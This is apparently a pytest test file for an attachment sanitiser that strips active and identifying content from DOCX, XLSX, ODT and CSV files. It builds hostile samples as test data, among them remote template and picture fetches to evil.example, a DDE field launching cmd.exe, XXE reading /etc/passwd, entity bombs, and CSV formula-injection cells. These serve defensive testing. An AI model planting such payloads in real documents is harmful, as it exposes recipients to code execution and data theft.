"""Office files whose XML runs, fetches, or tells who wrote it."""

import csv
import io

import pytest

from recommendations.attachments import RefusedFile, make_safe
from tests.attachments.attachment_samples import (
    HONEST,
    SECRET,
    changed,
    docx_body,
    docx_file,
    docx_related,
    jpeg,
    odt_file,
    png,
    replaced,
    unzipped,
    xlsx_file,
)

EVIL = "https://evil.example/x"


def refusal(content: bytes) -> str:
    with pytest.raises(RefusedFile) as refused:
        make_safe(content)
    return refused.value.code


def everything(content: bytes) -> bytes:
    """All parts of the released copy, one behind the other."""
    return b"\n".join(unzipped(make_safe(content).content).values())


# --- Word -------------------------------------------------------------------------------------


def test_docx_with_macros_by_content_type() -> None:
    main = "wordprocessingml.document.main+xml"
    content = replaced(docx_file(), "[Content_Types].xml", main, "macroEnabled.main+xml")
    assert refusal(content) == "macros"


def test_docx_with_macro_part() -> None:
    assert refusal(changed(docx_file(), {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"})) == "macros"


def test_docx_with_macro_part_under_another_name() -> None:
    content = docx_related("vbaProject", "harmless.xml", external=False)
    assert refusal(changed(content, {"word/harmless.xml": b"<a/>"})) == "macros"


def test_docx_that_is_a_template() -> None:
    content = replaced(docx_file(), "[Content_Types].xml", "document.main+xml", "template.main+xml")
    assert refusal(content) == "damaged"


def test_docx_that_loads_its_template_from_elsewhere() -> None:
    """The usual way to smuggle macros into a DOCX."""
    settings = unzipped(docx_file())["word/settings.xml"].decode()
    at = settings.index(">", settings.index("<w:settings")) + 1
    body = settings[:at] + '<w:attachedTemplate r:id="rId1"/>' + settings[at:]
    body = (
        body.replace(
            "<w:settings ",
            '<w:settings xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" ',
            1,
        )
        if "xmlns:r=" not in body
        else body
    )
    rels = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" TargetMode="External" Target="https://evil.example/x" Type="http:'
        '//schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/>'
        "</Relationships>"
    )
    content = changed(
        docx_file(), {"word/settings.xml": body, "word/_rels/settings.xml.rels": rels}
    )
    released = everything(content)
    assert (b"evil.example" in released, b"attachedTemplate" in released) == (False, False)


def test_docx_picture_fetched_from_elsewhere() -> None:
    xml = (
        '<w:p><w:r><w:drawing><a:blip xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/'
        'main" r:link="rIdX"/></w:drawing></w:r></w:p>'
    )
    released = everything(docx_related("image", EVIL, external=True, xml=xml))
    assert (b"evil.example" in released, b"rIdX" in released) == (False, False)


def test_docx_link_to_a_shared_folder() -> None:
    xml = '<w:p><w:hyperlink r:id="rIdX"><w:r><w:t>law</w:t></w:r></w:hyperlink></w:p>'
    released = everything(docx_related("hyperlink", r"file://evil/share", external=True, xml=xml))
    assert (b"evil" in released, b"<w:t>law</w:t>" in released) == (False, True)


def test_docx_embedded_object() -> None:
    xml = (
        '<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office"'
        ' r:id="rIdX"/></w:object></w:r></w:p>'
    )
    content = docx_related("oleObject", "embeddings/o.bin", external=False, xml=xml)
    content = changed(content, {"word/embeddings/o.bin": b"MZ evil"})
    assert (b"evil" in everything(content), b"OLEObject" in everything(content)) == (False, False)
    assert "embedded objects" in make_safe(content).removed


def test_docx_web_page_inside() -> None:
    content = docx_related("aFChunk", "chunk.html", external=False, xml='<w:altChunk r:id="rIdX"/>')
    content = changed(content, {"word/chunk.html": b"<script>evil</script>"})
    assert b"evil" not in everything(content)


def test_docx_field_that_starts_a_program() -> None:
    xml = (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDE</w:instrText></w:r>'
        '<w:r><w:instrText>AUTO c:\\\\cmd.exe "/k calc"</w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>kept words</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )
    released = everything(docx_body(xml))
    assert (b"cmd.exe" in released, b"kept words" in released) == (False, True)


def test_docx_field_inside_a_harmless_field() -> None:
    xml = (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>PAGE </w:instrText>'
        '</w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>INCLUDETEXT "https:'
        '//evil.example"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )
    assert b"evil.example" not in everything(docx_body(xml))


def test_docx_simple_field_that_fetches() -> None:
    xml = '<w:p><w:fldSimple w:instr="INCLUDEPICTURE &quot;https://evil.example&quot;"/></w:p>'
    assert b"evil.example" not in everything(docx_body(xml))


def test_docx_names_of_changes() -> None:
    xml = (
        f'<w:p w:rsidR="00AB12CD"><w:ins w:id="1" w:author="{SECRET}" w:date="2021-05-03T10:00:00Z">'
        "<w:r><w:t>added</w:t></w:r></w:ins></w:p>"
    )
    released = everything(docx_body(xml))
    found = [word in released for word in (SECRET.encode(), b"2021-05-03", b"00AB12CD", b"added")]
    assert found == [False, False, False, True]


def test_docx_file_path_of_a_picture() -> None:
    content = replaced(
        docx_file(), "word/document.xml", 'name="image.jpg"', 'name="C:\\Users\\anna"'
    )
    assert b"Users" not in everything(content)


def test_docx_entities_that_grow() -> None:
    bomb = '<!DOCTYPE a [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]><a>&b;</a>'
    assert refusal(changed(docx_file(), {"word/document.xml": bomb})) == "unsafe_xml"


def test_docx_entity_that_reads_a_file() -> None:
    bomb = '<!DOCTYPE a [<!ENTITY a SYSTEM "file:///etc/passwd">]><a>&a;</a>'
    assert refusal(changed(docx_file(), {"word/styles.xml": bomb})) == "unsafe_xml"


def test_docx_entities_in_another_encoding() -> None:
    bomb = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE a [<!ENTITY a "b">]><a>&a;</a>'
    content = changed(docx_file(), {"word/styles.xml": bomb.encode("utf-16")})
    assert refusal(content) == "unsafe_xml"


def test_docx_elements_in_each_other_without_end() -> None:
    deep = "<a>" * 100_000 + "</a>" * 100_000
    assert refusal(changed(docx_file(), {"word/styles.xml": deep})) == "damaged"


def test_docx_drawing_with_script_as_picture() -> None:
    content = docx_related("image", "media/x.svg", external=False)
    content = changed(content, {"word/media/x.svg": "<svg onload='evil()'/>"})
    assert b"evil" not in everything(content)


def test_docx_picture_that_is_none() -> None:
    parts = unzipped(docx_file())
    name = next(name for name in parts if name.startswith("word/media/"))
    released = make_safe(changed(docx_file(), {name: b"MZ evil"}))
    assert b"evil" not in b"".join(unzipped(released.content).values())
    assert "pictures that are not PNG, JPEG, GIF or BMP" in released.removed


def test_docx_part_nobody_refers_to() -> None:
    content = changed(docx_file(), {"word/notes.xml": f"<a>{SECRET}</a>", "evil.exe": b"MZ"})
    assert [name for name in unzipped(make_safe(content).content) if "evil" in name] == []
    assert SECRET.encode() not in everything(content)


# --- Excel ------------------------------------------------------------------------------------


def test_xlsx_with_macro_sheet() -> None:
    content = replaced(xlsx_file(), "[Content_Types].xml", "spreadsheetml.worksheet", "macrosheet")
    assert refusal(content) == "macros"


@pytest.mark.parametrize(
    "formula",
    [
        'WEBSERVICE("https://evil.example")',
        "cmd|'/C evil.example'!A0",
        "[1]evil.example!A1",
        'HYPERLINK("https://evil.example","x")',
        'CALL("evil.example","x")',
    ],
)
def test_xlsx_formula_that_reaches_out(formula: str) -> None:
    """Its last value stays."""
    released = everything(xlsx_file(f'<c r="A1"><f>{formula}</f><v>109</v></c>'))
    assert (b"evil.example" in released, b"<v>109</v>" in released) == (False, True)


def test_xlsx_cells_that_share_a_formula_which_reaches_out() -> None:
    """A cell that shares a formula nobody has any more makes the workbook unreadable."""
    first = '<c r="A1"><f t="shared" ref="A1:C1" si="0">HYPERLINK("x")</f><v>1</v></c>'
    other = '<c r="C1"><f t="shared" si="0"/><v>2</v></c>'
    released = everything(xlsx_file(first + other))
    assert (b"<f" in released, b"<v>1</v>" in released, b"<v>2</v>" in released) == (
        False,
        True,
        True,
    )


def test_xlsx_name_that_stands_for_another_workbook() -> None:
    names = "<definedNames><definedName name='x'>[1]evil!$A$1</definedName></definedNames>"
    content = replaced(xlsx_file(), "xl/workbook.xml", "</sheets>", f"</sheets>{names}")
    released = everything(content)
    assert (b"evil" in released, b"definedNames" in released) == (False, False)


def test_xlsx_path_of_the_author() -> None:
    path = '<absPath xmlns="urn:x" url="C:\\Users\\anna\\"/>'
    content = replaced(xlsx_file(), "xl/workbook.xml", "<sheets>", f"{path}<sheets>")
    assert b"Users" not in everything(content)


def test_xlsx_link_to_another_workbook() -> None:
    refer = '<externalReferences><externalReference r:id="rId9"/></externalReferences>'
    content = replaced(xlsx_file(), "xl/workbook.xml", "</sheets>", f"</sheets>{refer}")
    line = (
        '<Relationship Id="rId9" Target="externalLinks/e.xml" Type="http://schemas.openxmlformats'
        '.org/officeDocument/2006/relationships/externalLink"/></Relationships>'
    )
    content = replaced(content, "xl/_rels/workbook.xml.rels", "</Relationships>", line)
    content = changed(content, {"xl/externalLinks/e.xml": "<a>evil.example</a>"})
    released = everything(content)
    assert (b"evil" in released, b"externalReference" in released) == (False, False)


# --- ODT --------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "xml",
    [
        f'<draw:frame><draw:image xlink:href="{EVIL}"/></draw:frame>',
        f'<draw:frame><draw:object xlink:href="{EVIL}"/></draw:frame>',
        f'<draw:frame><draw:floating-frame xlink:href="{EVIL}"/></draw:frame>',
        f'<text:section><text:section-source xlink:href="{EVIL}"/></text:section>',
        '<text:p><text:a xlink:href="file://evil.example/share">x</text:a></text:p>',
        '<text:p><text:a xlink:href="javascript:evil.example">x</text:a></text:p>',
        '<office:event-listeners script:language="evil.example"/>',
        f'<draw:plugin xlink:href="{EVIL}"/>',
    ],
)
def test_odt_that_fetches_or_runs(xml: str) -> None:
    assert b"evil.example" not in everything(odt_file(xml))


def test_odt_names_of_comments() -> None:
    xml = (
        f"<office:annotation><dc:creator>{SECRET}</dc:creator><dc:date>2021-05-03</dc:date>"
        '<text:p officeooo:rsid="00ab12cd">see</text:p></office:annotation>'
    )
    released = everything(odt_file(xml))
    found = [word in released for word in (SECRET.encode(), b"2021-05-03", b"00ab12cd", b"see")]
    assert found == [False, False, False, True]


def test_odt_embedded_object() -> None:
    content = odt_file(
        parts={"Object 1/content.xml": "evil", "ObjectReplacements/Object 1": "evil"}
    )
    assert b"evil" not in everything(content)


def test_odt_with_entities() -> None:
    content = odt_file(parts={"content.xml": '<!DOCTYPE a [<!ENTITY a "b">]><a>&a;</a>'})
    assert refusal(content) == "unsafe_xml"


def test_odt_with_a_picture_that_is_a_program() -> None:
    content = odt_file(parts={"Pictures/1.jpg": b"MZ evil"})
    assert b"evil" not in everything(content)


# --- CSV --------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("cell", "released"),
    [
        ("=1+1", "'=1+1"),
        ("=cmd|'/C calc'!A0", "'=cmd|'/C calc'!A0"),
        ("+cmd|x", "'+cmd|x"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t'=1"),
        ("  =1", "'  =1"),
        ("＝1+1", "'＝1+1"),
        ("a; =cmd()", "a; '=cmd()"),
        ("-5", "-5"),
        ("+3.2", "+3.2"),
        ("-1,5 %", "-1,5 %"),
        ("-$1,200", "-$1,200"),
        ("-", "-"),
        ("+375 17 222", "+375 17 222"),
        ("plain - text", "plain - text"),
        ("O'Neil", "O'Neil"),
    ],
)
def test_csv_cell_that_a_program_would_compute(cell: str, released: str) -> None:
    out = io.StringIO(newline="")
    csv.writer(out).writerows([["a", "b"], ["x", cell]])
    safe = make_safe(out.getvalue().encode(), declared_name="t.csv")
    assert list(csv.reader(io.StringIO(safe.content.decode(), newline=""))) == [
        ["a", "b"],
        ["x", released],
    ]
    assert safe.removed == (("formulas",) if cell != released else ())
    assert make_safe(safe.content, declared_name="t.csv").content == safe.content


def test_csv_cell_without_end() -> None:
    with pytest.raises(RefusedFile) as refused:
        make_safe(b'a,b\n1,"' + b"x" * 200_000 + b"\n1,2", declared_name="t.csv")
    assert refused.value.code == "damaged"


def test_samples_are_what_they_say() -> None:
    """A hostile sample built on a broken honest one would prove nothing."""
    assert [make_safe(content).kind for content in (png(), jpeg())] == ["png", "jpeg"]
    assert make_safe(HONEST["docx"]).kind == "docx"
